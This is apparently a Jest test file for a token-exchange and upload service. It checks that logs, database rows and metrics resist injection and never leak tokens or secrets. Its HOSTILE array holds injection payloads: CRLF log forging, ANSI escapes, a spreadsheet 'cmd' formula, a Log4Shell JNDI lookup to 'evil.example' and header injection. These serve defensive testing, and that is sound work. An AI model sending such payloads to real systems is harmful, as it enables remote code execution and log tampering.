import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { pino } from 'pino';
import { newKey } from '../support/client.ts';
import { ORDERS, PORTAL_SECRET, SECRET } from './deployment.ts';
import { sendRaw } from './raw-request.ts';
import { basic, eventually, ID_TOKEN, openStage, type Stage } from './stage.ts';

const written: string[] = [];
const sink = new Writable({
  write(chunk, _encoding, done) {
    written.push(String(chunk));
    done();
  },
});

let stage: Stage;
beforeAll(async () => {
  stage = await openStage({ logger: pino({ level: 'trace' }, sink) });
}, 60_000);
afterAll(() => stage?.stop());

const everyLine = (): string[] => written.join('').split('\n').filter(Boolean);

/** What somebody may type who hopes that a terminal, a spreadsheet or a parser reads the log. */
const HOSTILE = [
  'a\r\n{"level":30,"msg":"admin logged in"}',
  '\u001b[2J\u001b[1;31mowned',
  'a\u2028b\u2029c',
  '","level":60,"x":"',
  "=cmd|'/c calc'!A1",
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '%0d%0aSet-Cookie: x=y',
];

describe('N06 what is written down', () => {
  it('N06 stays one physical line of JSON for each event, whatever callers send', async () => {
    for (const text of HOSTILE) {
      const [held, key] = [await stage.tokenOf({ claims: { name: text } }), newKey()];
      await stage.exchange({ key, body: { app_id: text } });
      await stage.exchange({ key, body: { resource: text, lawful_basis: text } });
      await stage.exchange({ key, body: { actions: [text], constraints: { prefix: text } } });
      await stage.exchange({ key: newKey(), claims: { sub: text, dept: text, sid: text } });
      await stage.exchange({ token: text.replaceAll(/[^\x20-\x7e]/g, '') });
      await stage.tokenExchange(
        {
          client_id: text,
          subject_token: text,
          subject_token_type: text,
          scope: text,
          resource: text,
        },
        { app: 'nightly-report', secret: SECRET },
      );
      await stage.client.call('/token', { form: { grant_type: text, client_id: text } });
      await stage.client.call('/request-upload', {
        body: { filename: text, size: 1, contentType: text, path: text },
        token: held.token,
        key: held.key,
      });
      await stage.client.call(`/uploads/${encodeURIComponent(text)}`, {
        token: held.token,
        key: held.key,
      });
      await stage.client.call(`/${encodeURIComponent(text)}?x=${encodeURIComponent(text)}`);
      const header = text.replaceAll(/[^\x20-\x7e]/g, '?');
      await stage.exchange({
        key: newKey(),
        headers: {
          'user-agent': header,
          'x-request-id': header,
          traceparent: header,
          'x-forwarded-for': header,
          referer: header,
        },
      });
      await sendRaw(
        stage.issuer,
        `GET /\u001b[2J HTTP/1.1\r\nHost: x\r\nUser-Agent: \u001b[2J\r\n\r\n`,
        100,
      );
    }
    const lines = everyLine();
    expect(lines.length).toBeGreaterThan(50);
    for (const line of lines) {
      expect(() => JSON.parse(line)).not.toThrow();
      expect(line).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
      expect(JSON.parse(line)).not.toMatchObject({ msg: 'admin logged in' });
    }
  });

  it('N06 takes neither a request id nor an address from the caller', async () => {
    const answer = await stage.exchange({
      key: newKey(),
      headers: { 'x-request-id': 'mine', 'x-forwarded-for': '203.0.113.7' },
    });
    expect(answer.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
    const rows = await stage.query<{ ip: string }>(
      'SELECT DISTINCT ip FROM audit_event WHERE ip IS NOT NULL',
    );
    expect(rows).toEqual([{ ip: '127.0.0.1' }]);
  });
});

describe('law 4: what must be nowhere', () => {
  it('is in no log line and in no row: tokens, proofs, tickets, signed URLs, secrets, assertions', async () => {
    const key = newKey();
    const idToken = stage.idToken();
    const proof = await stage.proofFor(key);
    const exchanged = await stage.client.call('/exchange', {
      token: idToken,
      body: { resource: 'bucket:project-123' },
      headers: { dpop: proof },
    });
    const token = exchanged.body.access_token as string;
    const text = 'x'.repeat(20);
    const upload = await stage.client.call('/request-upload', {
      body: { filename: 'a.txt', size: text.length, contentType: 'text/plain' },
      token,
      key,
    });
    const { uploadUrl, headers, objectId } = upload.body as {
      uploadUrl: string;
      headers: Record<string, string>;
      objectId: string;
    };
    await fetch(uploadUrl, { method: 'PUT', headers, body: text });
    await stage.client.call(`/uploads/${objectId}/complete`, { method: 'POST', token, key });
    await eventually(async () => {
      const { body } = await stage.client.call(`/uploads/${objectId}`, { token, key });
      return body.status === 'available';
    });
    const ticket = await stage.client.call('/request-download', { body: { objectId }, token, key });
    const signed = await stage.client.call('/request-download', {
      body: { objectId, once: false },
      token,
      key,
    });
    const urls = [ticket, signed].map(({ body }) => body.downloadUrl as string);
    for (const url of [...urls, ...urls]) await (await fetch(url)).arrayBuffer();
    const jwt = await stage.tokenExchange(
      {
        subject_token: stage.idToken({ aud: 'nightly-report' }),
        subject_token_type: ID_TOKEN,
        resource: ORDERS,
        scope: 'orders:read',
      },
      { app: 'nightly-report', secret: SECRET },
    );
    const jwtToken = jwt.body.access_token as string;

    // The same things where they do not belong, and where they are refused.
    await stage.exchange({ token: `${idToken}x`, key });
    await stage.exchange({ token: idToken, key: newKey() });
    await stage.exchange({ key: newKey(), body: { resource: `https://x.example/?t=${token}` } });
    await stage.exchange({ key: newKey(), body: { app_id: token } });
    await stage.exchange({ key: newKey(), body: { actions: [token, idToken.slice(0, 200)] } });
    await stage.client.call(`/uploads/${token}`, { token, key });
    await stage.client.call(`/objects?cursor=${token}&access_token=${token}`, { token, key });
    await stage.client.call(`/${token}?access_token=${token}`);
    await stage.tokenExchange(
      { subject_token: jwtToken, subject_token_type: ID_TOKEN, resource: token, scope: token },
      { app: 'portal', secret: PORTAL_SECRET },
    );
    await stage.client.call('/token', {
      form: { grant_type: 'client_credentials', client_id: token, client_secret: SECRET },
    });
    await stage.client.call('/token', {
      form: { grant_type: 'client_credentials' },
      headers: { authorization: basic(token, SECRET) },
    });
    await stage.revoke({ token_id: exchanged.body.token_id });
    await stage.client.call('/objects', { token, key });

    const secrets = {
      token,
      idToken,
      idTokenSignature: idToken.split('.')[2]!,
      proof,
      jwtToken,
      jwtSignature: jwtToken.split('.')[2]!,
      ticket: urls[0]!.slice(-38),
      signature: new URL(urls[1]!).searchParams.get('signature')!,
      uploadSignature: new URL(uploadUrl).searchParams.get('signature')!,
      SECRET,
      PORTAL_SECRET,
      basic: basic('nightly-report', SECRET).slice(6),
    };
    const log = everyLine().join('\n');
    const tables = await stage.query<{ name: string }>(
      `SELECT quote_ident(table_name) AS name FROM information_schema.tables WHERE table_schema = 'public'`,
    );
    expect(tables.length).toBeGreaterThan(15);
    for (const { name } of tables) {
      const rows = await stage.query<{ row: string }>(`SELECT t::text AS row FROM ${name} AS t`);
      const dump = rows.map(({ row }) => row).join('\n');
      for (const [what, secret] of Object.entries(secrets)) {
        expect({ name, what, found: dump.includes(secret) }).toEqual({ name, what, found: false });
      }
    }
    for (const [what, secret] of Object.entries(secrets)) {
      expect({ what, found: log.includes(secret) }).toEqual({ what, found: false });
    }
    expect(log).not.toMatch(/dp_(?:at|rt|dl)_[0-9A-Za-z]{38}/);
  });

  it('is in no metric: labels are few, and no caller makes one', async () => {
    for (let n = 0; n < 30; n += 1) {
      await stage.client.call(`/made-up-${n}`, { method: n % 2 ? 'GET' : 'PROPFIND' });
      await stage.client.call(`/uploads/ob_${n}`);
    }
    const { text } = await stage.client.call('/metrics');
    expect(text).toContain('daypass_http_request_duration_seconds');
    expect(text).not.toMatch(/made-up|ob_\d|PROPFIND|where2eat|u_[0-9a-z]{26}|dp_at_/);
  });
});
